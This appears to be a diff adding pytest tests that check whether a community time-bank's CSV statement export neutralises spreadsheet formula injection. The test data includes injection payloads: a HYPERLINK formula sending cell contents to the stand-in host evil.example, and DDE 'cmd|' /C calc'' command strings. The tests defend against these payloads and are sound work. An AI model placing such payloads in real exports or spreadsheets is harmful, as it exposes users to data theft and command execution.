@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import re
 import uuid
 
 import pytest
@@ -51,9 +54,49 @@ def test_the_statement_exports_as_csv(
     pay(coordinator, account_of(member), account_of(make_member(community)), 90, memo="=SUM(A1)")
     response = member_client.get(url("statement_csv", community))
     assert response["Content-Type"].startswith("text/csv")
-    body = response.content.decode()
-    assert body.splitlines()[0].startswith("Date,Kind,From or to,Note,Change,Balance")
-    assert "'=SUM(A1)" in body and "\u22121:30" in body and ",-90,-90," in body
+    header, line = csv.reader(io.StringIO(response.content.decode()))
+    assert header[:6] == ["Date", "Kind", "From or to", "Note", "Change", "Balance"]
+    assert line[3] == "'=SUM(A1)" and line[4] == line[5] == "\u22121:30"
+    assert ",-90,-90," in response.content.decode()  # minutes stay numbers, unquoted
+
+
+FORMULAS = {
+    "Thanks;=1+2": "Thanks;'=1+2",
+    '=HYPERLINK("https://evil.example/?x="&A1,"Click")': (
+        '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")'
+    ),
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "-1+2": "'-1+2",
+    "+1": "'+1",
+    "Tea,  =1+2": "Tea,  '=1+2",
+    "Tea\t=1": "Tea\t'=1",
+    "\t=1": "'\t'=1",
+    "Line one\r\n@SUM(A1)": "Line one\r\n'@SUM(A1)",
+    "Tea - lovely, thanks; see you": "Tea - lovely, thanks; see you",
+}
+
+
+def test_csv_cells_never_start_a_formula_however_a_spreadsheet_splits_them(
+    community: Community, member: Membership, coordinator: Membership, member_client: Client
+) -> None:
+    """Spreadsheets in many countries split on ";" (or tabs): a note like "Thanks;=1+2" must
+    not become a cell "=1+2" there. Text cells are quoted and every formula character that
+    could start a cell gets an apostrophe; minutes stay numbers."""
+    other = make_member(community, profile__display_name="=cmd|' /C calc'!A0")
+    for memo in FORMULAS:
+        pay(coordinator, account_of(member), account_of(other), 1, memo=memo)
+    body = member_client.get(url("statement_csv", community)).content.decode()
+    rows = list(csv.reader(io.StringIO(body)))[1:]
+    assert [row[3] for row in rows] == list(FORMULAS.values())
+    assert {row[2] for row in rows} == {"'=cmd|' /C calc'!A0"}
+    assert [int(row[6]) for row in rows] == [-1] * len(FORMULAS)
+    for separator in (";", "\t"):
+        for row in csv.reader(io.StringIO(body), delimiter=separator):
+            for cell in row:
+                assert cell.lstrip(" ")[:1] not in "=+-@", (separator, cell)
+    for text_line in body.splitlines():
+        for piece in re.split(r"[;\t]", text_line):
+            assert piece.lstrip(' "')[:1] not in "=+-@", piece
 
 
 def test_balance_as_of_a_date_is_shown(
